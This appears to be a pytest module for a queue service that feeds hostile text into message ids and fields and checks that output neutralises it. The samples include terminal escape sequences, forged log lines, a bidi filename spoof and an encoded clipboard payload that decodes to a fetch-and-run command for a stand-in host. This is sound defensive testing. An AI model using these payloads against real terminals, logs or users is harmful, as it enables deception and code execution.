"""Text a hostile client may put in a message id, a correlation id, a body or a free-text field: one
case per class of attack on whoever reads it (a JSON encoder, a terminal, a log reader), and the checks
that an operator's surfaces neutralised it."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable

import pytest

from orderflow import telemetry
from orderflow.alert_sink import AlertSink
from orderflow.clients import RegisteredClient
from orderflow.consumer import Settlement, settle
from orderflow.queues.base import ReceivedMessage
from tests.host_deps import HostDeps
from tests.unit.fakes import TEST_CLIENT, order_body, take_in

INBOUND = TEST_CLIENT.inbound_queue
"""The queue the hostile messages arrive on: the test client's inbound queue."""

HOSTILE: dict[str, str] = {
    "lone-low-surrogate": "m-\udc80-\udcfe",
    "lone-high-surrogate": "\ud83d tail",
    "reversed-surrogate-pair": "\udc00\ud800x",
    "csi-clear-and-home": "\x1b[2J\x1b[3J\x1b[Hall dead letters replayed OK",
    "csi-conceal": "visible\x1b[8msecret\x1b[28m",
    "csi-cursor-up-erase": "q\x1b[1A\x1b[2K\rPurged 0 dead letters",
    "osc-title-bel": "\x1b]0;orderflow: healthy\x07",
    "osc-52-clipboard-st": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\",
    "osc-8-hyperlink": "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
    "c1-csi-osc-st": "\x9b2J\x9d0;title\x9c",
    "c1-nel-and-del": "line\x85next\x7f",
    "nul-bel-backspace": "ab\x00c\x07\x08\x08\x08OK",
    "crlf-forged-log-line": "m-1\r\n2026-12-06 INFO orderflow.events order.processed order_id=acme:o-1",
    "bare-cr": "all replayed OK\r",
    "vt-ff-separators": "a\x0bb\x0cc\x1cd\x1fe",
    "bidi-override": "invoice-\u202egnp.exe",
    "bidi-isolates-marks": "\u2067x\u2069\u200e\u200f\u061c",
    "unicode-line-separators": "one\u2028two\u2029three",
    "zero-width-and-bom": "o\u200b-1\u2060\ufeff",
    "rich-markup": "[bold red]all replayed OK[/bold red] [link=https://evil.example]x[/link] :skull:",
    "forged-key-value": 'm-9 order_id=acme:o-1 outcome="Processed" x=\\',
    "very-long": ("\x1b[31m" + "A" * 195 + "\u202e") * 40,
}
"""Each class of hostile text, by a name for the test id."""

hostile_cases = pytest.mark.parametrize("hostile", list(HOSTILE.values()), ids=list(HOSTILE))
"""Parametrise a test over :data:`HOSTILE` (argument ``hostile``)."""


def _consume(
    deps: HostDeps, queue: str, handler: Callable[[ReceivedMessage], object], *, deliveries: int
) -> Settlement:
    [message] = deps.queues.queue(queue).receive()
    return settle(deps.queues.queue(queue), message, handler, max_delivery_count=deliveries)


def send_hostile(deps: HostDeps, hostile: str, *, client: RegisteredClient = TEST_CLIENT) -> None:
    """Three messages of ``client`` carrying ``hostile`` on its inbound queue, each dead-lettered by the
    consumer: a body that is not JSON (ids and body hostile), an order whose fields are (``orderId``
    refused, ``customerName``, ``carrier``), and one whose handling keeps failing (the
    ``max_delivery_count`` alert names it)."""

    def intake(message: ReceivedMessage) -> object:
        return take_in(deps, message, client)

    def failing(message: ReceivedMessage) -> object:
        raise RuntimeError(f"cannot handle {message.message_id}")

    inbound = client.inbound_queue
    queue = deps.queues.queue(inbound)
    order = json.loads(order_body("o-1"))
    order.update(orderId=hostile, customerName=hostile, carrier=hostile)
    queue.send(hostile, message_id=hostile, correlation_id=hostile)
    assert _consume(deps, inbound, intake, deliveries=10) is Settlement.DEAD_LETTERED
    queue.send(json.dumps(order, ensure_ascii=False), message_id="order " + hostile, correlation_id=hostile)
    assert _consume(deps, inbound, intake, deliveries=10) is Settlement.DEAD_LETTERED
    assert deps.alerts is not None
    previous = telemetry.use_alert_sink(AlertSink(deps.alerts, deps.clock, "h1", window_s=3600))
    try:
        queue.send("{}", message_id="failing " + hostile, correlation_id=hostile)
        assert _consume(deps, inbound, failing, deliveries=1) is Settlement.DEAD_LETTERED
    finally:
        telemetry.use_alert_sink(previous)


def raw_controls(output: bytes) -> list[str]:
    """The characters of ``output`` (strict UTF-8: raises if it is not) that :func:`unsafe_characters`
    finds. Empty when the output is safe to print."""
    return unsafe_characters(output.decode("utf-8"))


def unsafe_characters(text: str) -> list[str]:
    """The characters in ``text`` that a terminal would act on or a reader could be misled by, as
    ``U+XXXX``: controls (C0 but tab and line feed, DEL, C1), format characters (bidi controls,
    zero-width ones, the byte-order mark), line and paragraph separators, and surrogates."""
    return [
        f"U+{ord(c):04X}"
        for c in text
        if c not in "\t\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    ]
